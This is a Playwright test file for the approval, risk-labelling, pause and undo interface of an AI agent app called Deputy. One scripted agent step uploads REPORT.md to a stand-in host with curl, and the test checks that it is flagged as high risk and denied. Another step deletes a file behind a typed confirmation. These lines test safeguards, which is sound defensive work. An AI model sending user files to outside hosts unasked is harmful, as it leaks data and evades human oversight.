/** A task from its goal to undo, by keyboard alone. */
import { existsSync, realpathSync, utimesSync } from "node:fs";
import { join } from "node:path";
import { checkEverywhere } from "./screens";
import { ask, calls, expect, say, shell, test, write } from "./world";

const STORY = {
  by_conversation: true,
  turns: [
    calls("First I look at what is there.", shell("ls")),
    calls("I write the report now.", write("REPORT.md", "# Report\n\nTwo notes.\n")),
    calls("I also send it somewhere.", shell("curl -fsS https://example.org/upload -d @REPORT.md")),
    ask("Shall I keep the notes?"),
    say("Done. **REPORT.md** is written."),
  ],
};

test("a task is assigned, watched, answered and undone by keyboard", async ({ page, world }) => {
  world.write("notes.txt", "one\n");
  await world.start(STORY);
  await world.open(page);

  await expect(page.getByRole("heading", { name: "What should Deputy do?" })).toBeVisible();
  await page.keyboard.type("Write a report");
  await page.keyboard.press("Tab");
  await page.keyboard.type(world.workspace);
  await page.keyboard.press("Enter");

  const timeline = page.getByRole("region", { name: "Timeline" });
  await expect(timeline.getByText("First I look at what is there.")).toBeVisible();
  const card = page.getByRole("article", { name: /Write REPORT.md/ });
  await expect(card.getByText("Low risk")).toBeVisible();
  await expect(card.getByText("# Report")).toBeVisible();
  await page.locator("#page").focus();
  await expect(async () => {
    await page.keyboard.press("Enter");
    await expect(card).toBeHidden({ timeout: 300 });
  }).toPass();
  await expect(timeline.getByText("1 file changed").first()).toBeVisible();
  expect(world.read("REPORT.md")).toContain("Two notes.");

  const risky = page.getByRole("article", { name: /example\.org/ });
  await expect(risky.getByText("High risk")).toBeVisible();
  await expect(risky.getByText("Uses the network.")).toBeVisible();
  // Enter is not enough for a high risk: it goes to the field for the word.
  await expect(async () => {
    await page.keyboard.press("Enter");
    await expect(risky.getByRole("textbox", { name: /Type yes/ })).toBeFocused({ timeout: 300 });
  }).toPass();
  await page.keyboard.press("Escape");
  await expect(async () => {
    await page.keyboard.press("d");
    await expect(page.getByPlaceholder("Reason (Deputy will see this)")).toBeFocused({ timeout: 300 });
  }).toPass();
  await page.keyboard.type("nothing leaves this machine");
  await page.keyboard.press("Enter");
  await expect(risky).toBeHidden();
  await expect(timeline.getByText("nothing leaves this machine")).toBeVisible();

  const question = page.getByRole("article", { name: "Question" });
  await expect(question.getByText("Shall I keep the notes?")).toBeVisible();
  await question.getByRole("textbox").focus();
  await page.keyboard.type("yes");
  await page.keyboard.press("Enter");
  await expect(timeline.getByText("REPORT.md is written.")).toBeVisible();

  const before = await timeline.textContent();
  await page.reload();
  await expect(timeline.getByText("REPORT.md is written.")).toBeVisible();
  expect(await timeline.textContent()).toBe(before);

  await page.keyboard.press("z");
  await expect(timeline.getByText("1 change undone")).toBeVisible();
  expect(existsSync(join(world.workspace, "REPORT.md"))).toBe(false);
  await page.keyboard.press("y");
  await expect(timeline.getByText("1 change redone")).toBeVisible();
  expect(existsSync(join(world.workspace, "REPORT.md"))).toBe(true);

  // Undo asks before touching what the user has written since, and keeps it.
  world.write("REPORT.md", "mine");
  await page.keyboard.press("z");
  const dialog = page.getByRole("dialog", { name: "Undo changes" });
  await expect(dialog.getByText("This will undo 1 change:")).toBeVisible();
  await expect(dialog.getByText(/changed since/)).toBeVisible();
  await dialog.getByRole("button", { name: "Undo" }).focus();
  await page.keyboard.press("Enter");
  await expect(dialog.getByText(/1 change couldn't be undone/)).toBeVisible();
  expect(world.read("REPORT.md")).toBe("mine");
  await page.keyboard.press("Escape");
  await expect(dialog).toBeHidden();
});

test("a high risk runs once the word was typed", async ({ page, world }) => {
  await world.start({
    turns: [calls("", shell("rm notes.txt && touch gone")), say("Gone.")],
    by_conversation: true,
  });
  world.write("notes.txt", "one\n");
  const task = world.task("Remove the notes");
  await world.open(page, `#/tasks/${task}`);
  const card = page.getByRole("article", { name: /Delete notes\.txt/ });
  await expect(card).toBeVisible();
  const word = card.getByRole("textbox", { name: /Type yes/ });
  if (await word.isVisible()) await word.fill("yes");
  await card.getByRole("button", { name: "Run once" }).click();
  await expect(page.getByText("Gone.")).toBeVisible();
  expect(existsSync(join(world.workspace, "gone"))).toBe(true);
});

test("a running task is paused, steered, resumed and stopped", async ({ page, world }) => {
  // Without the half second per step, the task reaches its limit of a hundred steps before a key is pressed.
  const steps = {
    tool: "shell",
    arguments: { command: "sleep 0.5 && echo step {n}" },
    count: 500,
    // biome-ignore lint/suspicious/noThenProperty: the script calls its last words so
    then: "done",
  };
  await world.start({ steps });
  const task = world.task("Count for a long time");
  await world.open(page, `#/tasks/${task}`);
  // Which steps are in view depends on the progress: the page follows the newest.
  await expect(page.getByText(/^sleep 0.5 && echo step \d+$/).last()).toBeVisible();
  await page.keyboard.press("p");
  await expect(page.getByRole("button", { name: "Resume" })).toBeVisible();
  await page.keyboard.press("s");
  await page.keyboard.type("count faster");
  await page.keyboard.press("Enter");
  await expect(page.getByText("You added")).toBeVisible();
  await page.keyboard.press("Escape");
  await page.keyboard.press("p");
  await expect(page.getByRole("button", { name: "Pause", exact: true })).toBeVisible();
  await page.keyboard.press("x");
  await expect(page.getByText("Stopped by you").first()).toBeVisible();
});

test("the to-do list of a task is its progress", async ({ page, world }) => {
  const titles = ["Read the letters", "Write the answers", "Send them"];
  const todo = (...states: string[]) => {
    const steps = titles.map((title, place) => ({ title, state: states[place] }));
    return { name: "todo", arguments: { steps } };
  };
  await world.start({
    by_conversation: true,
    turns: [
      calls("Three steps.", todo("active", "pending", "pending")),
      calls("The first is done.", todo("done", "active", "pending"), write("one.txt", "1\n")),
      calls("Nothing is sent.", todo("done", "done", "dropped")),
      say("Over."),
    ],
  });
  const task = world.task("Answer the letters");
  await world.open(page, `#/tasks/${task}`);
  const icons = page.getByRole("complementary", { name: "Steps" }).getByRole("img");
  const states = () => icons.evaluateAll((all) => all.map((icon) => icon.getAttribute("aria-label")));
  const story = page.getByRole("region", { name: "Timeline" });
  await expect(story.getByRole("heading", { name: "Step 1 of 3: Read the letters" })).toBeVisible();
  await expect(story.getByRole("heading", { name: "Step 2 of 3: Write the answers" })).toBeVisible();
  await expect(page.getByRole("link", { name: /Answer the letters/ })).toContainText("1 of 3 steps");
  await expect.poll(states).toEqual(["Done", "In progress", "To do"]);
  await page.getByRole("button", { name: "Approve" }).click();
  await expect(story.getByRole("heading", { name: "2 of 2 steps done" })).toBeVisible();
  await expect.poll(states).toEqual(["Done", "Done", "Dropped"]);
});

for (const reducedMotion of ["no-preference", "reduce"] as const) {
  test(`a request that is taller than the view is shown from its beginning, motion: ${reducedMotion}`, async ({
    page,
    world,
  }) => {
    const lines = Array.from({ length: 60 }, (_, line) => `line ${line}`).join("\n");
    await world.start({
      turns: [calls("A long one.", shell("ls"), write("long.txt", lines))],
      by_conversation: true,
    });
    const task = world.task("Write a long file");
    await page.emulateMedia({ reducedMotion });
    await page.setViewportSize({ width: 390, height: 600 });
    await world.open(page, `#/tasks/${task}`);
    const card = page.getByRole("article", { name: /long\.txt/ });
    await expect(card.getByText("Low risk")).toBeInViewport();
    const view = await page.getByRole("region", { name: "Timeline" }).boundingBox();
    await expect.poll(async () => (await card.boundingBox())?.y ?? 0).toBeGreaterThanOrEqual(view?.y ?? 0);
    // Also if this was not the first screen.
    await page.evaluate(() => {
      window.location.hash = "#/new";
    });
    await expect(page.getByRole("heading", { name: "What should Deputy do?" })).toBeVisible();
    await page.evaluate((place) => {
      window.location.hash = place;
    }, `#/tasks/${task}`);
    await expect(card.getByText("Low risk")).toBeInViewport();
    await expect.poll(async () => (await card.boundingBox())?.y ?? 0).toBeGreaterThanOrEqual(view?.y ?? 0);
  });
}

test("undoing a task that organized a folder undoes its job", { tag: "@screens" }, async ({
  page,
  world,
}) => {
  // Regression: the dialog said that nothing had changed.
  world.write("song.mp3", "la la");
  world.write("table.csv", "a,b\n1,2\n");
  for (const name of ["song.mp3", "table.csv"])
    utimesSync(join(world.workspace, name), 1_750_000_000, 1_750_000_000);
  await world.start({ turns: [say("Hello.")] });
  world.deputy("run", "tidy up this folder by kind", "--backend", "offline", "--yes", "medium");
  const task = JSON.parse(world.deputy("--json", "tasks").split("\n")[0] ?? "").id;
  expect(existsSync(join(world.workspace, "song.mp3"))).toBe(false);
  await world.open(page, `#/tasks/${task}`);
  await expect(page.getByText("Done. Job").first()).toBeVisible();
  await page.keyboard.press("z");
  const timeline = page.getByRole("region", { name: "Timeline" });
  await expect(timeline.getByText(/^\d+ changes undone$/)).toBeVisible();
  await checkEverywhere(page, "undo-job");
  expect(world.read("song.mp3")).toBe("la la");
  expect(world.read("table.csv")).toBe("a,b\n1,2\n");
});

test("a task that continues another one in the page is held to the same files", async ({ page, world }) => {
  world.write("a.txt", "a\n");
  await world.start({ turns: [say("Looked."), say("Looked again.")] });
  world.deputy("run", "Look at it", "--only", "a.txt");
  const first = JSON.parse(world.deputy("--json", "tasks").split("\n")[0] ?? "").id;
  await world.open(page, `#/tasks/${first}`);
  await page.getByRole("textbox", { name: "Ask for a follow-up" }).fill("Look once more");
  await page.keyboard.press("Enter");
  await expect(page.getByText("Look once more", { exact: true })).toBeVisible();
  const next = JSON.parse(world.deputy("--json", "tasks").split("\n")[0] ?? "").id;
  expect(next).not.toBe(first);
  const spec = JSON.parse(world.deputy("--json", "show", next).split("\n")[0] ?? "").record.event.spec;
  expect(spec.scope.only_files).toEqual([join(realpathSync(world.workspace), "a.txt")]);
});
